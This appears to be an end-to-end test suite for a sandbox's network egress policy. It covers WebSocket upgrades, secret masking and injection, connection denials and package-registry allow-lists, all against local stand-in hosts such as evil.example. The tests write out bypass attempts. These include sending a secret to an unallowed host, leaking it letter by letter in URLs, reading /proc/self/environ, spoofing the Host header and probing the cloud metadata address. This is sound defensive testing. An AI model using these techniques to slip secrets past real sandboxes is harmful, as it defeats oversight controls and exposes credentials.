/** More tries to get around the policy from inside, with an outside that answers: WebSockets, secrets, package managers. */
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { openStack } from "./lib.mjs";
import { makeCertificate, ownAddress, startSite } from "./outside.mjs";

const SECRET = "e2e-bypass-secret-90fe61b7";
const HOSTS = ["hooks.example", "plain.example", "evil.example", "npm.example", "pip.example"];
/** What of the secret in base64 is the same whatever stands around it, after `before` bytes modulo three. */
const base64At = (text, before) => {
  const bytes = Buffer.concat([Buffer.alloc(before), Buffer.from(text)]);
  return bytes.toString("base64").slice(before && before + 1, Math.floor((bytes.length * 8) / 6));
};
const address = ownAddress();
/** Every request that arrived: {host, url, headers, body}. */
const seen = [];
const routes = {};
let dir;
let site;
let stack;
let api;
let session;

/** A package that npm installs, as its registry serves it. */
function npmPackage() {
  const at = join(dir, "package");
  mkdirSync(at);
  writeFileSync(join(at, "package.json"), '{"name":"tiny-thing","version":"1.0.0","main":"index.js"}');
  writeFileSync(join(at, "index.js"), 'module.exports = "from npm";\n');
  assert.equal(spawnSync("tar", ["-czf", join(dir, "tiny.tgz"), "-C", dir, "package"]).status, 0);
  const tarball = readFileSync(join(dir, "tiny.tgz"));
  const dist = {
    tarball: "https://npm.example/tiny-thing/-/tiny-thing-1.0.0.tgz",
    integrity: `sha512-${createHash("sha512").update(tarball).digest("base64")}`,
  };
  const version = { name: "tiny-thing", version: "1.0.0", main: "index.js", dist };
  const index = { name: "tiny-thing", "dist-tags": { latest: "1.0.0" }, versions: { "1.0.0": version } };
  routes["npm.example/tiny-thing"] = Buffer.from(JSON.stringify(index));
  routes["npm.example/tiny-thing/-/tiny-thing-1.0.0.tgz"] = tarball;
}

/** A wheel and its page in an index. */
function wheel() {
  const name = "tiny_thing-1.0.0-py3-none-any.whl";
  const made = spawnSync("python3", [
    "-c",
    `
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w") as z:
    z.writestr("tiny_thing.py", "said = 'from pip'\\n")
    z.writestr("tiny_thing-1.0.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: tiny-thing\\nVersion: 1.0.0\\n")
    z.writestr("tiny_thing-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
    z.writestr("tiny_thing-1.0.0.dist-info/RECORD", "")
`,
    join(dir, name),
  ]);
  assert.equal(made.status, 0, String(made.stderr));
  routes["pip.example/simple/tiny-thing/"] = Buffer.from(`<a href="/files/${name}">${name}</a>`);
  routes[`pip.example/files/${name}`] = readFileSync(join(dir, name));
}

before(async () => {
  dir = scratch("bypass");
  const tls = makeCertificate(dir, HOSTS);
  site = await startSite(
    address,
    (req, res) => {
      const parts = [];
      req.on("data", (d) => parts.push(d));
      req.on("end", () => {
        const { host } = req.headers;
        seen.push({ host, url: req.url, headers: req.headers, body: Buffer.concat(parts).toString() });
        const file = req.url === "/echo" ? Buffer.from(JSON.stringify(req.headers)) : routes[`${host}${req.url}`];
        const type = /simple/.test(req.url) ? "text/html" : "application/json";
        res.writeHead(host in { "npm.example": 1, "pip.example": 1 } && file === undefined ? 404 : 200, {
          "content-type": type,
        });
        res.end(file ?? "{}");
      });
    },
    tls,
  );
  if (site === null) return;
  for (const server of site.servers)
    server.on("upgrade", (req, socket) => {
      seen.push({ host: req.headers.host, url: req.url, headers: req.headers, body: "upgrade" });
      const accept = createHash("sha1")
        .update(`${req.headers["sec-websocket-key"]}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
        .digest("base64");
      // Of each kilobyte that comes half a kilobyte goes back; a close is answered.
      let come = 0;
      let sent = 0;
      socket
        .on("error", () => {})
        .on("data", (data) => {
          come += data.length;
          for (; sent < Math.floor(come / 1_008); sent += 1)
            socket.write(Buffer.concat([Buffer.from([0x82, 126, 500 >> 8, 500 & 255]), Buffer.alloc(500, "d")]));
          if (data.length >= 2 && data.at(-8) === 0x88) socket.end(Buffer.from([0x88, 2, 3, 0xe8]));
        });
      socket.write(
        `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
      );
    });
  npmPackage();
  wheel();
  stack = await openStack({
    vars: { CAISSON_SEAL_KEY: `1:${Buffer.alloc(32, 9).toString("base64url")}` },
    engineArgs: [...HOSTS.flatMap((name) => ["--resolve", `${name}:${address}`]), "--trust", tls.file],
  });
  api = stack.api;
  session = await api.session({
    agent: "shell",
    secrets: { HOOK_TOKEN: SECRET },
    policy: {
      network: {
        allow: ["hooks.example", "plain.example", address],
        inject: [{ host: "hooks.example", secret: "HOOK_TOKEN", body: true }],
      },
    },
  });
});
after(async () => {
  await stack?.close();
  await site?.stop();
  rmSync(dir, { recursive: true, force: true });
});

const here = (name, work) =>
  test(name, async (t) => (site === null ? t.skip("this user may not listen on ports 80 and 443") : work(t)));
const run = async (at, command) =>
  (await api.ok("POST", `/v1/sessions/${at.id}/exec`, { command, timeout_s: 60 })).body;
const out = async (command) => {
  const { exit_code, stdout, stderr } = await run(session, command);
  assert.equal(exit_code, 0, `${command}: ${stdout}${stderr}`);
  return stdout.trim();
};
const log = async () => (await api.ok("GET", `/v1/sessions/${session.id}/egress`)).body.egress;
const UPGRADE = (host) => `python3 - <<'PY'
import socket
s = socket.create_connection(("${host}", 80), 10)
s.sendall(b"GET /ws HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n")
print(s.recv(1000).split(b"\\r\\n")[0].decode())
PY`;

import { scratch } from "../scratch.mjs";

describe("a WebSocket upgrade", () => {
  here("passes to a host that is allowed, and to no other", async () => {
    assert.match(await out(UPGRADE("plain.example")), /^HTTP\/1\.1 101/);
    assert.match(await out(UPGRADE("evil.example")), /^HTTP\/1\.1 403/);
  });
  here("is in the log with the bytes of its frames both ways, once it has ended", async () => {
    const { id: before } = (await log()).at(-1);
    const python = `import socket
s = socket.create_connection(("plain.example", 80), 10)
s.sendall(b"GET /ws HTTP/1.1\\r\\nHost: plain.example\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n")
got = b""
while b"\\r\\n\\r\\n" not in got: got += s.recv(1000)
got = got.split(b"\\r\\n\\r\\n", 1)[1]
for _ in range(40):
    s.sendall(b"\\x82\\xfe\\x03\\xe8" + bytes(4) + b"u" * 1000)
while len(got) < 40 * 504: got += s.recv(65536)
s.sendall(b"\\x88\\x82" + bytes(4) + b"\\x03\\xe8")
while s.recv(1000): pass
print(len(got))`;
    assert.equal(await out(`python3 - <<'PY'\n${python}\nPY`), String(40 * 504));
    const entry = await api.until(
      async () => (await log()).find(({ id, path, bytes_up }) => id > before && path === "/ws" && bytes_up !== null),
      "the WebSocket's end in the log",
    );
    // Frames of 1,000 bytes up, of 500 down, each with its head; the runtime between may cut them otherwise.
    assert.equal(entry.status, 101);
    assert.ok(entry.bytes_up >= 40_000 && entry.bytes_up < 42_000, JSON.stringify(entry));
    assert.ok(entry.bytes_down >= 20_000 && entry.bytes_down < 21_000, JSON.stringify(entry));
    const { events } = (await api.ok("GET", `/v1/sessions/${session.id}/events?limit=1000`)).body;
    const told = events.filter(({ type, path }) => type === "egress.allowed" && path === "/ws").slice(-2);
    assert.deepEqual(
      told.map(({ bytes_up, bytes_down }) => [bytes_up, bytes_down]),
      [
        [null, null],
        [entry.bytes_up, entry.bytes_down],
      ],
    );
  });
  here("and nowhere where the policy has none", async () => {
    const at = await api.session({
      agent: "shell",
      policy: { network: { allow: ["plain.example", address], websockets: "deny" } },
    });
    const before = seen.length;
    assert.match((await run(at, UPGRADE("plain.example"))).stdout, /^HTTP\/1\.1 403/);
    assert.equal(seen.length, before);
    assert.equal((await run(at, "curl -s -o /dev/null -w '%{http_code}' http://plain.example/")).stdout, "200");
  });
});

describe("a secret", () => {
  here(
    "is a placeholder in the environment of runs and of commands alike, and masked where a server says it",
    async () => {
      const { events } = await api.run(session.id, { command: "echo $HOOK_TOKEN" });
      const token = events.find(({ type }) => type === "output.stdout").text.trim();
      assert.match(token, /^caisson-secret-[0-9a-f]{32}$/);
      assert.equal(await out("printenv HOOK_TOKEN"), token);
      // The server gets the real one and says it back: the sandbox has that answer, whoever reads the command's output has not.
      const echo = 'curl -sS --fail -H "x-token: $HOOK_TOKEN" https://hooks.example/echo';
      const said = JSON.parse(await out(echo))["x-token"];
      assert.deepEqual([seen.at(-1).headers["x-token"], said], [SECRET, "*".repeat(SECRET.length)]);
      const streamed = await api.call(
        "POST",
        `/v1/sessions/${session.id}/exec`,
        { command: `${echo}; echo; ${echo} | base64 -w 0; ${echo} >&2; cat /proc/self/environ | tr '\\0' '\\n'` },
        { accept: "text/event-stream" },
      );
      const text = streamed.bytes.toString();
      assert.match(text, /HOOK_TOKEN=caisson-secret-/);
      for (const form of [SECRET, ...[0, 1, 2].map((n) => base64At(SECRET, n))]) assert.ok(!text.includes(form), text);
      const other = JSON.parse(await out('curl -sS --fail -H "x-token: $HOOK_TOKEN" https://plain.example/echo'));
      assert.equal(other["x-token"], token);
    },
  );
  here("is put in for its host in headers and small JSON bodies, and nowhere else", async () => {
    const send = (host, type = "application/json") =>
      out(
        `curl -sS --fail -H "x-token: $HOOK_TOKEN" -H 'content-type: ${type}' -d "{\\"t\\":\\"$HOOK_TOKEN\\"}" https://${host}/hook`,
      );
    await send("hooks.example");
    assert.deepEqual([seen.at(-1).headers["x-token"], JSON.parse(seen.at(-1).body).t], [SECRET, SECRET]);
    await send("plain.example");
    const other = seen.at(-1);
    assert.match(other.headers["x-token"], /^caisson-secret-/);
    assert.match(JSON.parse(other.body).t, /^caisson-secret-/);
    // Another Host field, and another name within TLS, get nothing.
    const before = seen.length;
    const misled = `curl -s -o /dev/null -w '%{http_code}' -H "x-token: $HOOK_TOKEN"`;
    assert.equal(await out(`${misled} -H 'Host: hooks.example' https://plain.example/`), "421");
    const fronted = await run(
      session,
      `${misled} --connect-to hooks.example:443:plain.example:443 https://hooks.example/`,
    );
    for (const { host, headers } of seen.slice(before))
      assert.ok(host === "hooks.example" || headers["x-token"] !== SECRET, `${host} ${fronted.stdout}`);
    // A body that is not JSON, or not small, passes as it is.
    await send("hooks.example", "text/plain");
    assert.match(JSON.parse(seen.at(-1).body).t, /^caisson-secret-/);
    await out(
      `head -c 70000 /dev/zero | tr '\\0' ' ' > /tmp/large && echo "{\\"t\\":\\"$HOOK_TOKEN\\"}" >> /tmp/large && curl -sS --fail -H 'content-type: application/json' --data-binary @/tmp/large https://hooks.example/large`,
    );
    assert.match(JSON.parse(seen.at(-1).body).t, /^caisson-secret-/);
  });

  here("that drips out letter by letter is seen in the log", async () => {
    const before = (await log()).at(-1).id;
    const text = "dripping-secret";
    await out(`for c in ${[...text].join(" ")}; do curl -s -o /dev/null "http://plain.example/drip/$c?$c"; done`);
    const entries = (await log()).filter(({ id }) => id > before);
    assert.equal(entries.map(({ path }) => /^\/drip\/(.)$/.exec(path)?.[1]).join(""), text);
    assert.ok(entries.every(({ address: at, host }) => at === address && host === "plain.example"));
  });
});

describe("a denial", () => {
  here("is a document that names the rule and says how to ask for access", async () => {
    const body = JSON.parse(await out("curl -sS https://evil.example/"));
    assert.deepEqual([body.status, body.code, body.rule], [403, "egress_denied", "network.default"]);
    assert.match(body.detail, /evil\.example.*network\.allow/);
  });
  here("of a connection comes at once: refused, not silence", async () => {
    const lines = await out(`python3 - <<'PY'
import errno, socket
for address, port in (("93.184.216.34", 8443), ("93.184.216.34", 22), ("10.0.0.1", 5432), ("169.254.169.254", 8080), ("evil.example", 25), ("2606:4700::1111", 443)):
    try: socket.create_connection((address, port), timeout=20); print("open", address)
    except OSError as e: print(errno.errorcode.get(e.errno, e))
PY`);
    for (const line of lines.split("\n")) assert.match(line, /^(ECONNREFUSED|ENETUNREACH|EHOSTUNREACH|EACCES)$/);
  });
});

describe("a package manager", () => {
  const managers = {
    npm: {
      has: "command -v npm",
      install:
        "mkdir -p /tmp/n && cd /tmp/n && npm install --registry=https://npm.example/ --no-audit --no-fund --fetch-retries=0 tiny-thing",
      use: "cd /tmp/n && node -p 'require(\"tiny-thing\")'",
      host: "npm.example",
    },
    pip: {
      has: "python3 -m pip --version",
      install:
        "python3 -m pip install -q --retries 0 --target /tmp/t --index-url https://pip.example/simple tiny-thing",
      use: "PYTHONPATH=/tmp/t python3 -c 'import tiny_thing; print(tiny_thing.said)'",
      host: "pip.example",
    },
  };
  for (const [name, { has, install, use, host }] of Object.entries(managers))
    here(`${name} installs from a registry that is allowed, and from no other`, async (t) => {
      if ((await run(session, has)).exit_code !== 0) return t.skip(`${name} is not on this machine`);
      const before = seen.length;
      const refused = await run(session, install);
      assert.notEqual(refused.exit_code, 0);
      assert.ok(seen.slice(before).every((request) => request.host !== host));
      const at = await api.session({ agent: "shell", policy: { network: { allow: [host, address] } } });
      const { exit_code, stdout, stderr } = await run(at, `${install} && ${use}`);
      assert.equal(exit_code, 0, stdout + stderr);
      assert.match(stdout, new RegExp(`from ${name}\\n$`));
    });
});
